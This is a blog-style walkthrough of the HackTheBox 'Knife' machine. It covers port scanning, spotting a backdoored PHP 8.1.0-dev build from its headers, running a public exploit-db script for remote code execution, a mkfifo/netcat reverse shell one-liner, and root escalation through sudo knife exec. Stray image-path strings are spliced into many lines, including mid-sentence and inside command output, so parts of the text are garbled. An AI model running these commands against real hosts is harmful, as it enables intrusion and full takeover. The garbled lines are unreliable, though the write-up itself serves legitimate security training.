5 minute read

Machine Information


Knife is rated as an easy machine on HackTheBox. An initial scan reveals a simple website running on port 80. Examining headers we discover it’s running on a backdoored version of PHP. Using a public exploit we get an initial shell. From there we move to a more useable reverse shell, and enurmeration finds sudo privleges for Knife. We use this Chef command line tool to escalate to root to complete the box.

Skills required are basic enumeration knowledge and researching exploits. Skills learned are exploiting vulnerable software and usingKnife for escalation of privleges.

Hosting Site HackTheBox
Link To Machine HTB - Easy - Knife
Machine Release Date 22nd May 2021
Date I Completed It 20th September 2021
Distribution Used Kali 2021.2 – Release Info

Initial Recon

As always let’s start with Nmap:

└─# ports=$(nmap -p- --min-rate=1000 -T4 | grep ^[0-9] | cut -d '/' -f 1 | tr '\n' ',' | sed s/,$//)

└─# nmap -p$ports -sC -sV -oA knife
Starting Nmap 7.91 ( https://nmap.org ) at 2021-09-19 22:54 BST
Nmap scan report for
Host is up (0.069s latency).

22/tcp open  ssh     OpenSSH 8.2p1 Ubuntu 4ubuntu0.2 (Ubuntu Linux; protocol2.0)
| ssh-hostkey:
|   3072 be:54:9c:a3:67:c3:15:c3:64:71:7f:6a:53:4a:4c:21 (RSA)
|   256 bf:8a:3f:d4:06:e9:2e:87:4e:c9:7e:ab:22:0e:c0:ee (ECDSA)
|_  256 1a:de:a1:cc:37:ce:53:bb:1b:fb:2b:0b:ad:b3:f6:84 (ED25519)
80/tcp open  http    Apache httpd 2.4.41 ((Ubuntu))
|_http-server-header: Apache/2.4.41 (Ubuntu)
|_http-title:  Emergent Medical Idea
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

We find just two open ports, with ssh on 22 a no go for now. Let’s see what’s running on Apache on port 80:


A simple web page is all that’s here. With nothing in the source code I used cURL to check the headers:

└─# curl -v
*   Trying
* Connected to ( port 80 (#0)
> GET / HTTP/1.1
> Host:
> User-Agent: curl/7.74.0
> Accept: */*
* Mark bundle as not supporting multiuse
< HTTP/1.1 200 OK
< Date: Sun, 19 Sep 2021 21:55:41 GMT
< Server: Apache/2.4.41 (Ubuntu)
< X-Powered-By: PHP/8.1.0-dev< Vary: Accept-Encoding
< Transfer-Encoding: chunked
< Content-Type: text/html; charset=UTF-8

Note in the response we see X-Powered-By. A good explanation of headers in general is here on the Mozilla dev site. For X-Powered-By it says:

May be set by hosting environments or other frameworks and contains information about them while not providing any usefulness to the application or its visitors. Unset this header to avoid exposing potential vulnerabilities.I’m wondering why this site would be running a dev version of PHP, looking on exploit-db I find the answer here:

An early release of PHP, the PHP 8.1.0-dev version was released with a backdoor on March 28th 2021, but the backdoor was quickly discovered and removed. If this version of PHP runs on a server, an attacker can execute arbitrary code by sending the User-Agentt header.
The following exploit uses the backdoor to provide a pseudo shell ont the host.

PHP Exploit

So this site is running a backdoored version of PHP, let’s grab the exploit and try it:

└─# searchsploit 8.1.0-dev
--- ---
 Exploit Title                                                 |  Path
--- ---
PHP 8.1.0-dev - 'User-Agentt' Remote Code Execution            | php/webapps/49933.py--- ---

└─# searchsploit -m php/webapps/49933.py
  Exploit: PHP 8.1.0-dev - 'User-Agentt' Remote Code Execution
      URL: https://www.exploit-db.com/exploits/49933
     Path: /usr/share/exploitdb/exploits/php/webapps/49933.py
File Type: Python script, ASCII text executable
Copied to: /root/htb/knife/49933.py
└─# python3 ./49933.py
Enter the full host url:

Interactive shell is opened on
Can't acces tty; job crontol turned off.

User Flag

That was nice and easy to get a basic shell. Let’s have a quick look around:

$ whoami$ pwd

$ ls -l
lrwxrwxrwx   1 root root     7 Feb  1  2021 bin -> usr/bin
drwxr-xr-x   4 root root  4096 Jul 23 13:37 boot
drwxr-xr-x   2 root root  4096 May  6 14:10 cdrom
drwxr-xr-x  19 root root  4020 Sep 20 09:01 dev
drwxr-xr-x  99 root root  4096 May 18 13:25 etc
drwxr-xr-x   3 root root  4096 May  6 14:44 home
drwxr-xr-x   2 root root  4096 Feb  1  2021 srv
dr-xr-xr-x  13 root root     0 Sep 20 09:01 sysdrwxrwxrwt  17 root root 12288 Sep 20 19:25 tmp
drwxr-xr-x  15 root root  4096 May 18 13:20 usr
drwxr-xr-x  14 root root  4096 May  9 04:22 var

$ cat /home/james/user.txt

I’m connected as the user James so I’ve grabbed the flag, now let’s start a netcat listener in another terminal and connect to it to get a proper shell:

$ rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 4444 >/tmp/f

Switch to my waiting nc session to see we’re connected:

└─# nc -nlvp 4444
listening on [any] 4444 ...
connect to [] from (UNKNOWN) [] 50628
/bin/sh: 0: can't access tty; job control turned off

Privilege Escalation

I had a quick look around but one of the first things to check is sudo rights, which was the right path for this box:$ sudo -l
Matching Defaults entries for james on knife:
    env_reset, mail_badpass, secure_path=/usr/local/sbin\:/usr/local/bin\:/usr/sbin\:/usr/bin\:/sbin\:/bin\:/snap/bin

User james may run the following commands on knife:
    (root) NOPASSWD: /usr/bin/knife

I’d not heard of knife before, but running it reveals more:

$ sudo /usr/bin/knife
ERROR: You need to pass a sub-command (e.g., knife SUB-COMMAND)

Usage: knife sub-command (options)
    -s, --server-url URL             Chef Infra Server URL.
        --chef-zero-host HOST        Host to start Chef Infra Zero on.
        --chef-zero-port PORT        Port (or port range) to start Chef Infra Zero on. Port ranges like 1000,1010 or 8889-9999 will try all given ports until one works.
    -k, --key KEY                    Chef Infra Server API client key.
        --[no-]color                 Use colored output, defaults to enabled.
    -c, --config CONFIG              The configuration file to use.--config-option OPTION=VALUE Override a single configuration option.

Knife is a command line tool for Chef which is an automation platform. From the Chef site here:

Chef Infra is a powerful automation platform that transforms infrastructure into code. Whether you’re operating in the cloud, on-premises, or ina hybrid environment, Chef Infra automates how infrastructure is configured, deployed,and managed across your network, no matter its size.

Root Flag

A look around the docs I found this which shows how to use knife to execute Ruby scripts. I also found this which shows you can also use it to run commands. So privilege escalation is trivial with our sudo permissions:

$ sudo knife exec --exec "exec '/bin/sh -i'"
/bin/sh: 0: can't access tty; job control turnedoff
# whoami

# id
uid=0(root) gid=0(root) groups=0(root)

# cat/root/root.txt

All done. See you next time.